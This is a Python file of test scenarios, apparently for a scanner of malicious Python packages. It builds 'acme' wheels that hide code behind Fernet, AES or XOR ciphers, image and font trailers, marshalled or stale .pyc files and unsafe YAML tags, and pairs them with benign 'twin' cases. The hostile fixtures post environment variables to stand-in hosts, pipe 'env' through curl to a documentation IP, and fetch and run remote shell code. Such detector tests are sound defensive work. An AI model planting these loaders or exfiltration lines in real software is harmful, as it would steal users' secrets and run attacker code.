# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""Code that a cipher, a name or a data file hides, whatever the key and wherever it comes from; and honest twins."""

from __future__ import annotations

import base64
import importlib.util
import marshal
import sys
import zlib

from scenario_kit import Scenario, wheel

EVIL = "import os, requests\nrequests.post('https://collect.invalid/v1', json=dict(os.environ))\n"
PACKED = base64.b64encode(EVIL.encode()).decode()
CODE = compile(EVIL, "x", "exec")
"""Compiled, never run."""


def pyc(source: str) -> bytes:
    """Return a compiled file of this Python."""
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, "x", "exec"))


def of(name: str, source: str, expect: str = "look", **files: str | bytes) -> Scenario:
    """Make a wheel of `acme/__init__.py` and files beside it; `__DOT__` in a name stands for a dot."""
    placed = {f"acme/{path.replace('__DOT__', '.')}": data for path, data in files.items()}
    return wheel(name, expect, {"acme/__init__.py": source, **placed})  # type: ignore[arg-type]


SCENARIOS = [
    of(
        "decrypt-key-env",
        "import os\nfrom cryptography.fernet import Fernet\nexec(Fernet(os.environ['ACME_KEY']).decrypt(b'gAAAAABabcdefgh'))\n",
    ),
    of(
        "decrypt-key-host",
        "import socket,hashlib,base64\nfrom cryptography.fernet import Fernet\nk=base64.urlsafe_b64encode(hashlib.sha256(socket.gethostname().encode()).digest())\nexec(Fernet(k).decrypt(b'gAAAAABabcdefgh'))\n",
    ),
    of(
        "decrypt-key-net",
        "import requests\nfrom cryptography.fernet import Fernet\nk=requests.get('https://keys.invalid/k').content\nexec(Fernet(k).decrypt(b'gAAAAABabcdefgh'))\n",
    ),
    of(
        "decrypt-aes-env",
        "import os\nfrom Crypto.Cipher import AES\nc=AES.new(os.environ['K'].encode(),AES.MODE_CBC,b'0'*16)\nexec(c.decrypt(b'abcdabcdabcdabcd'))\n",
    ),
    of(
        "decrypt-aesgcm",
        "import os\nfrom cryptography.hazmat.primitives.ciphers.aead import AESGCM\nexec(AESGCM(open('/etc/machine-id','rb').read()[:16]).decrypt(b'0'*12,b'abcdabcd',None))\n",
    ),
    of(
        "decrypt-xor-host",
        "import getpass\nD=b'abcdefghijkl'*9\nk=getpass.getuser().encode()\nexec(bytes(c^k[i%len(k)] for i,c in enumerate(D)))\n",
    ),
    of(
        "decrypt-fn",
        "import os\nfrom cryptography.fernet import Fernet\ndef unlock(blob):\n    f=Fernet(os.environ['K'])\n    return f.decrypt(blob).decode()\ndef go():\n    src=unlock(b'gAAAA')\n    exec(compile(src,'x','exec'))\ngo()\n",
    ),
    of(
        "decrypt-shipped",
        "import os\nfrom cryptography.fernet import Fernet\nh=os.path.dirname(__file__)\nexec(Fernet(os.environ['K']).decrypt(open(h+'/data.bin','rb').read()))\n",
        data__DOT__bin=b"gAAAAABabcdefgh",
    ),
    of(
        "exec-name-elsewhere",
        f"import base64\nC='import os'\nD=base64.b64decode('{PACKED}')\nglobals()['run_me']=D\neval('exec(run_me)')\n",
    ),
    of("eval-name", f"import base64\npayload=base64.b64decode('{PACKED}').decode()\nexec('exec(payload)')\n"),
    of("eval-name2", "import requests\npayload=requests.get('https://x.invalid/a').text\nexec('exec(payload)')\n"),
    of(
        "eval-compile",
        "import requests\nsrc=requests.get('https://x.invalid/a').text\neval('compile(src,\"\",\"exec\")')\neval(compile(src,'','exec'))\n",
    ),
    of(
        "loader-hidden-data",
        "import os\nd=open(os.path.join(os.path.dirname(__file__),'logo.png'),'rb').read()\nexec(d[d.index(b'IEND')+8:])\n",
        logo__DOT__png=b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + b"IEND\xaeB`\x82" + EVIL.encode(),
    ),
    of(
        "loader-split-marker",
        "import os\nd=open(os.path.join(os.path.dirname(__file__),'logo.png'),'rb').read()\nexec(d.split(b'#@#')[1])\n",
        logo__DOT__png=b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + b"#@#" + EVIL.encode(),
    ),
    of(
        "loader-struct",
        "import os,zlib\nd=open(os.path.join(os.path.dirname(__file__),'font.ttf'),'rb').read()\nexec(zlib.decompress(d[16:]))\n",
        font__DOT__ttf=b"\0\1\0\0" + b"\0" * 12 + zlib.compress(EVIL.encode()),
    ),
    of(
        "copy-then-run",
        "import os,shutil,subprocess\nh=os.path.dirname(__file__)\nshutil.copy(h+'/x.sh','/tmp/x.sh')\nsubprocess.Popen(['sh','/tmp/x.sh'])\n",
        x__DOT__sh="env | curl -s --data-binary @- http://203.0.113.9/e\n",
    ),
    of(
        "write-then-run-pkg",
        "import os,subprocess\nh=os.path.dirname(__file__)\nopen('/tmp/.q.py','w').write(open(h+'/x.txt').read())\nsubprocess.Popen(['python3','/tmp/.q.py'])\n",
        x__DOT__txt=EVIL,
    ),
    of("exec-bytes-list", "exec(bytes([{}]))\n".format(",".join(map(str, EVIL.encode())))),
    of(
        "sitecustom-ext",
        "import os,sys\nsys.path.insert(0,os.path.join(os.path.dirname(__file__),'_v'))\nimport hidden\n",
        **{"_v/hidden__DOT__py": EVIL},
    ),
    of(
        "marshalled-file",
        "import os,marshal\nd=open(os.path.join(os.path.dirname(__file__),'t.dat'),'rb').read()\nexec(marshal.loads(d))\n",
        t__DOT__dat=marshal.dumps(CODE),
    ),
    of(
        "compiled-differs-from-source",
        "from . import util\n",
        util__DOT__py="X=1\n",
        **{f"__pycache__/util__DOT__{sys.implementation.cache_tag}__DOT__pyc": pyc(EVIL)},
    ),
    of("compiled-alone", "from . import util\n", util__DOT__pyc=pyc(EVIL)),
    of(
        "twin-compiled-like-its-source",
        "from . import util\n",
        "quiet",
        util__DOT__py="X=1\n",
        **{f"__pycache__/util__DOT__{sys.implementation.cache_tag}__DOT__pyc": pyc("X=1\n")},
    ),
    of(
        "twin-decrypts-settings",
        "import json, os\nfrom cryptography.fernet import Fernet\ndef load(path):\n    return json.loads(Fernet(os.environ['ACME_KEY']).decrypt(open(path, 'rb').read()))\n",
        "quiet",
    ),
    of(
        "twin-evaluates-an-expression",
        "import operator\nW = 3\ndef area(h):\n    return eval('W * h', {'W': W, 'h': h})\n",
        "quiet",
    ),
    of(
        "twin-copies-a-template",
        "import os, shutil\ndef init(folder):\n    shutil.copy(os.path.join(os.path.dirname(__file__), 'template.sh'), os.path.join(folder, 'run.sh'))\n",
        "quiet",
        template__DOT__sh="#!/bin/sh\nexec python3 -m acme\n",
    ),
    of(
        "twin-copies-and-runs-a-tool",
        "import os, shutil, subprocess, tempfile\ndef run(args):\n    tool = os.path.join(tempfile.mkdtemp(), 'tool.sh')\n    shutil.copy(os.path.join(os.path.dirname(__file__), 'tool.sh'), tool)\n    return subprocess.call(['sh', tool, *args])\n",
        "quiet",
        tool__DOT__sh='#!/bin/sh\nset -e\nls -l "$1"\n',
    ),
    of(
        "yaml-apply",
        "import yaml, os\nyaml.unsafe_load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')))\n",
        c__DOT__yaml='!!python/object/apply:os.system ["curl -s http://203.0.113.5/x | sh"]\n',
    ),
    of(
        "yaml-apply-of-a-list",
        "import yaml, os\nyaml.load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')), Loader=yaml.UnsafeLoader)\n",
        c__DOT__yaml='b: !!python/object/apply:subprocess.Popen\n  - ["sh", "-c", "curl -s http://203.0.113.5/x | sh"]\n',
    ),
    of(
        "yaml-new-in-a-constant",
        'import yaml\nTEXT = "!!python/object/new:os.system\\nargs: [curl -s http://203.0.113.5/x | sh]\\n"\nyaml.load(TEXT, yaml.Loader)\n',
    ),
    of(
        "twin-yaml-read-safely",
        "import yaml, os\nC = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')))\n",
        "quiet",
        c__DOT__yaml='!!python/object/apply:os.system ["curl -s http://203.0.113.5/x | sh"]\n',
    ),
    of(
        "twin-yaml-with-tuples",
        "import yaml, os\nC = yaml.load(open(os.path.join(os.path.dirname(__file__), 'c.yaml')), Loader=yaml.Loader)\n",
        "quiet",
        c__DOT__yaml="a: 1\nc: !!python/tuple [1, 2]\nd: !!python/name:os.path.join\n",
    ),
]
